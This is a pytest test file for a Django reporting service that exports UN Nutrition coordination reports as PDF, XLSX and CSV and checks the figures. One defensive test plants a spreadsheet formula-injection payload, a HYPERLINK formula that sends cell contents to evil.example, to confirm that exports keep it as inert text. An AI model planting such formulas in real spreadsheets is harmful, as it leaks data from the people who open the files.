"""Each report in each format, produced by the real job in-process, opened and read back
(PDF text, XLSX cells, CSV rows) and compared with the data it was built from."""

import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest
from django.db.models import Sum

from countries.models import Country
from reports import services
from teams.models import Team
from unnutrition.demo_data import generate_demo_data
from workplans.models import ActionArea, Activity
from workplans.selectors import dashboard_summary

from ..factories import make_user
from .conftest import YEAR
from .files import csv_files, csv_sections, pdf_text, sheet, xlsx_cells, xlsx_sheets

pytestmark = pytest.mark.django_db
FORMATS = ["pdf", "xlsx", "csv"]
DEC_31 = dt.date(YEAR, 12, 31)


@pytest.fixture
def produce(django_capture_on_commit_callbacks):
    def produce(user, kind, fmt, **scope):
        with django_capture_on_commit_callbacks(execute=True):
            run, created = services.request_report(user, kind=kind, format=fmt, year=YEAR, **scope)
        assert created
        run.refresh_from_db()
        assert (run.status, run.progress, run.error) == ("done", 100, "")
        path = Path(run.file.path)
        # A CSV report is a ZIP with one CSV file per table.
        assert path.suffix == {"csv": ".zip"}.get(fmt, f".{fmt}") and path.stat().st_size == run.file_size
        return path

    return produce


def usd(field):
    return Activity.objects.filter(workplan__year=YEAR, currency="USD").aggregate(total=Sum(field))["total"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_global_overview(fmt, coordination, produce):
    path = produce(coordination.secretariat, "global", fmt)
    country_teams = Team.objects.filter(kind="country", is_active=True).count()
    assert country_teams == 2  # Cambodia and Chad
    required = usd("budget_required")
    assert required == Decimal("390000")

    if fmt == "pdf":
        text = pdf_text(path)
        assert f"UN Nutrition global coordination overview {YEAR}" in text
        assert f"Situation on {DEC_31.isoformat()}" in text
        assert f"Countries with an active country team {country_teams}" in text
        assert "... with a convener 1" in text
        assert f"Budget required (USD) {required:,.0f}" in text
        # Convener changes: UNICEF took over from WFP in Cambodia.
        assert f"UN Nutrition Cambodia Convener {YEAR}-06-01 UNICEF WFP {YEAR}-05-31" in text
        # Data quality: Chad lost its convener on 31 March.
        assert f"UN Nutrition Chad Chad FAO {YEAR}-03-31" in text
        assert "Provincial nutrition survey" in text and "In implementation after its end date 92" in text
        assert "Anaemia reduction campaign" in text
    elif fmt == "xlsx":
        sheets = xlsx_sheets(path)
        figures = dict(sheet(sheets, "Key figures")[1:])
        assert figures["Countries with an active country team"] == country_teams
        assert figures["... with a convener"] == 1
        assert figures["Budget required (USD)"] == required
        assert figures["Budget spent (EUR)"] == 30000
        changes = sheet(sheets, f"Convener changes in {YEAR}")
        # By date: Chad's convener left on 31 March with nobody taking over, then Cambodia's changed.
        assert changes[1:] == [
            (
                "UN Nutrition Chad",
                "Convener",
                dt.datetime(YEAR, 4, 1),
                "nobody: no successor",
                "FAO",
                dt.datetime(YEAR, 3, 31),
            ),
            (
                "UN Nutrition Cambodia",
                "Convener",
                dt.datetime(YEAR, 6, 1),
                "UNICEF",
                "WFP",
                dt.datetime(YEAR, 5, 31),
            ),
        ]
        no_convener = sheet(sheets, "Teams without a convener")
        assert no_convener[1:] == [("UN Nutrition Chad", "Chad", "FAO", dt.datetime(YEAR, 3, 31))]
        money = sheet(sheets, "Money by region")
        asia_usd = next(row for row in money if row[:2] == ("Asia", "USD"))
        assert asia_usd[2:5] == (390000, 120000, 70000)
        # Typed cells: amounts carry a money format, dates a date format.
        assert xlsx_cells(path, "Money by region", 2, 3).number_format == "#,##0.00"
        assert xlsx_cells(path, "Teams without a convener", 2, 4).number_format == "yyyy-mm-dd"
    else:
        sections = csv_sections(path)
        assert sections[""][0] == [f"UN Nutrition global coordination overview {YEAR}"]
        figures = dict(sections["Key figures"][1:])
        assert figures["Countries with an active country team"] == str(country_teams)
        assert figures["Budget required (USD)"] == "390000.00"
        assert sections["Teams without a convener"] == [
            ["Team", "Country", "Last convener", "Ended"],
            ["UN Nutrition Chad", "Chad", "FAO", f"{YEAR}-03-31"],
        ]
        late = [
            row
            for row in sections["Activities whose status disagrees with their dates"]
            if row[2] == "Provincial nutrition survey"
        ]
        assert late == [
            [
                "UN Nutrition Cambodia",
                str(coordination.activities["late"].pk),
                "Provincial nutrition survey",
                "UNICEF",
                "Implementation",
                f"{YEAR}-02-01",
                f"{YEAR}-09-30",
                "In implementation after its end date",
                "92",
            ]
        ]


def test_global_figures_agree_with_the_dashboard(db, produce):
    """The overview and the Secretariat dashboard count activities and money the same way."""
    generate_demo_data(countries=10, years=2, seed=3, as_of=DEC_31)
    path = produce(make_user("secretariat"), "global", "xlsx")
    sheets = xlsx_sheets(path)
    summary = dashboard_summary(YEAR)
    activities = sheet(sheets, "Activities by action area and status")
    header = activities[0]
    report_counts = {
        (area, status): count
        for row in activities[1:]
        for area, status, count in ((row[0], status, row[header.index(label)]) for status, label in STATUS_LABELS)
        if count
    }
    names = dict(ActionArea.objects.values_list("code", "name"))
    dashboard_counts = {
        (names[row["action_area"]], row["status"]): row["count"]
        for row in summary["activities_by_action_area_and_status"]
    }
    assert report_counts == dashboard_counts and sum(dashboard_counts.values()) > 50
    money = {(row[0], row[1]): row[2:5] for row in sheet(sheets, "Money by action area")[1:]}
    for row in summary["budget_by_action_area"]:
        assert money[(names[row["action_area"]], row["currency"])] == (row["required"], row["available"], row["spent"])


STATUS_LABELS = [(status.value, str(status.label)) for status in Activity.Status]


@pytest.mark.parametrize("fmt", FORMATS)
def test_regional_report(fmt, coordination, produce):
    region = Country.objects.get(iso_alpha3="KHM").region
    path = produce(coordination.secretariat, "regional", fmt, region=region)
    title = f"{region.name}: regional coordination report {YEAR}"
    if fmt == "pdf":
        text = pdf_text(path)
        assert title in text
        assert "UN Nutrition Cambodia" in text
        assert "Chad" not in text and "Latin America" not in text
        assert "Money by country" in text
    elif fmt == "xlsx":
        sheets = xlsx_sheets(path)
        assert sheet(sheets, "Report")[0][0] == title
        teams = sheet(sheets, "Country teams and regional groups")
        assert [row[0] for row in teams[1:]] == ["UN Nutrition Cambodia"]
        assert teams[1][3:9] == ("UNICEF", True, 4, 1, "Endorsed", 4)
        money = sheet(sheets, "Money by country")
        assert money[1:] == [
            ("UN Nutrition Cambodia", "EUR", 30000, 30000, 30000, 100, 100),
            ("UN Nutrition Cambodia", "USD", 390000, 120000, 70000, 30.8, 58.3),
        ]
        assert [row[0] for row in sheet(sheets, "Teams without a convener")[1:]] == []
    else:
        sections = csv_sections(path)
        coverage = sections["Coverage by sub-region"]
        assert coverage[1][:4] == [region.name, "1", "1", "1"]
        assert not [name for name, content in csv_files(path).items() if "Chad" in content.decode("utf-8-sig")]


@pytest.mark.parametrize("fmt", FORMATS)
def test_country_report(fmt, coordination, produce):
    person = coordination.focal_point.person
    path = produce(coordination.focal_point, "country", fmt, team=coordination.cambodia)
    if fmt == "pdf":
        text = pdf_text(path)
        assert f"UN Nutrition Cambodia: country report {YEAR}" in text
        # The roster with contact details: the requester is a member of the team.
        assert person.name in text and person.email in text
        assert "Provincial nutrition survey" in text and "FAO, WHO" in text
        assert "Operational roadmap of the Global Action Plan on Child Wasting" in text and "3,500,000" in text
        assert "Chad" not in text
    elif fmt == "xlsx":
        sheets = xlsx_sheets(path)
        roster = sheet(sheets, "Members and technical focal points")
        assert roster[0][:6] == ("Agency", "Member since", "Focal point", "Job title", "E-mail", "Phone")
        assert [row[0] for row in roster[1:]] == ["FAO", "UNICEF", "WFP", "WHO"]
        unicef = roster[2]
        assert unicef[2] == person.name and unicef[4] == person.email
        assert roster[1][2] == "none named"
        activities = {row[0]: row for row in sheet(sheets, f"Workplan {YEAR}: activities")[1:]}
        survey = activities["Provincial nutrition survey"]
        assert survey[1:4] == ("Evidence generation", "UNICEF", "FAO, WHO")
        assert survey[6:9] == ("Implementation", 70, dt.datetime(YEAR, 12, 1))
        assert survey[9:] == ("USD", 100000, 80000, 60000)
        assert activities["Food systems dialogue"][9:] == ("EUR", 30000, 30000, 30000)
        history = sheet(sheets, "Convener history")
        assert [(row[1], row[3], row[4]) for row in history[1:]] == [
            ("UNICEF", dt.datetime(YEAR, 6, 1), None),
            ("WFP", dt.datetime(YEAR - 3, 1, 1), dt.datetime(YEAR, 5, 31)),
        ]
        no_focal_point = sheet(sheets, "Member agencies without a focal point")
        assert [row[2] for row in no_focal_point[1:]] == ["FAO", "WFP", "WHO"]
    else:
        sections = csv_sections(path)
        resources = sections["Resources mobilised"]
        assert resources[1][1:5] == [
            "Joint proposals developed through UN Nutrition",
            "Operational roadmap of the Global Action Plan on Child Wasting",
            "USD",
            "3500000.00",
        ]
        stale = sections["Activities not updated in 90 days"]
        assert [row[2] for row in stale[1:]] == ["Anaemia reduction campaign"]
        assert stale[1][-2:] == [f"{YEAR}-08-01", str((DEC_31 - dt.date(YEAR, 8, 1)).days)]


@pytest.mark.parametrize("fmt", FORMATS)
def test_data_quality_alerts(fmt, coordination, produce):
    # More spent than available, as the activity form warns; "Food systems dialogue" spent
    # exactly what it had (EUR 30,000 of 30,000), which is no finding.
    Activity.objects.filter(pk=coordination.activities["stale"].pk).update(budget_spent=Decimal("45000"))
    # UNICEF's focal point in Cambodia last confirmed their entry 400 days ago (the yearly check).
    from django.utils import timezone

    from teams.models import FocalPoint

    FocalPoint.objects.filter(person=coordination.focal_point.person).update(
        last_confirmed_at=timezone.now() - dt.timedelta(days=400)
    )
    path = produce(coordination.secretariat, "data_quality", fmt)
    overspent = "Activities that spent more than their budget available"
    expected = {
        "Teams without a convener": 1,
        # Cambodia 3, its provincial working groups 4 (the brief names nobody), the LAC group 4, Chad 1
        "Member agencies without a focal point": 12,
        f"Workplans not submitted by {YEAR}-03-31": 2,  # Chad and the LAC group
        "Activities whose status disagrees with their dates": 2,
        "Activities not updated in 90 days": 1,
        overspent: 1,
        "Roster entries not confirmed for 365 days": 1,
    }
    if fmt == "pdf":
        text = pdf_text(path)
        assert f"UN Nutrition data-quality alerts {YEAR}" in text
        for title, count in expected.items():
            assert f"{title} {count}" in text
        assert "School meals scale-up" in text and "Still in the pipeline after its start date 60" in text
        listed = text.split(overspent, 2)[2]  # the list, after the summary's line
        assert "Anaemia reduction campaign" in listed and "Food systems dialogue" not in listed
        assert "Anaemia reduction campaign WFP Implementation USD 40,000 45,000 5,000" in listed
    elif fmt == "xlsx":
        sheets = xlsx_sheets(path)
        assert dict(sheet(sheets, "Data-quality findings")[1:]) == expected
        for title, count in expected.items():
            assert len(sheet(sheets, title)) == count + 1
        not_submitted = sheet(sheets, f"Workplans not submitted by {YEAR}-03-31")
        assert [(row[0], row[2], row[4]) for row in not_submitted[1:]] == [
            ("Latin America and Caribbean regional nutrition group", "No workplan", "UNICEF"),
            ("UN Nutrition Chad", "No workplan", "none"),
        ]
        assert [row[2:3] + row[-4:] for row in sheet(sheets, overspent)[1:]] == [
            ("Anaemia reduction campaign", "USD", 40000, 45000, 5000)
        ]
    else:
        sections = csv_sections(path)
        assert {row[0]: int(row[1]) for row in sections["Data-quality findings"][1:]} == expected
        pipeline = sections["Activities whose status disagrees with their dates"][2]
        assert pipeline[2] == "School meals scale-up" and pipeline[-2:] == [
            "Still in the pipeline after its start date",
            "60",
        ]
        assert [row[2:3] + row[-4:] for row in sections[overspent][1:]] == [
            ["Anaemia reduction campaign", "USD", "40000.00", "45000.00", "5000.00"]
        ]


def test_pdf_cuts_long_lists_and_says_so(coordination, produce, settings):
    settings.REPORTS_PDF_MAX_ROWS = 3
    text = pdf_text(produce(coordination.secretariat, "data_quality", "pdf"))
    assert "The first 3 of 12 rows are shown; the XLSX and CSV versions list them all." in text


def test_report_for_a_year_without_data_says_so(coordination, produce, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        run, _ = services.request_report(
            coordination.focal_point, kind="country", format="pdf", year=YEAR + 1, team=coordination.cambodia
        )
    run.refresh_from_db()
    assert run.status == "done"
    assert f"The team has no workplan for {YEAR + 1}." in pdf_text(run.file.path)


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_user_text_that_looks_like_a_formula_stays_text(fmt, coordination, produce):
    """A focal point's title starting with '=' (or a phone number with '+') is never a live formula."""
    activity = Activity.objects.get(title="Provincial nutrition survey")
    activity.title = EVIL
    activity.save()
    person = coordination.focal_point.person
    person.phone = "+855 23 123 456"
    person.save()
    path = produce(coordination.focal_point, "country", fmt, team=coordination.cambodia)
    if fmt == "xlsx":
        from openpyxl import load_workbook

        workbook = load_workbook(str(path))
        cells = [cell for ws in workbook for row in ws.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
        assert EVIL in {cell.value for cell in cells}  # kept, as text
        assert "+855 23 123 456" in {cell.value for cell in cells}
    else:
        rows = [cell for rows in csv_sections(path).values() for row in rows for cell in row]
        assert not [cell for cell in rows if cell.startswith(("=", "+", "-", "@"))]
        assert "'" + EVIL in rows and "'+855 23 123 456" in rows
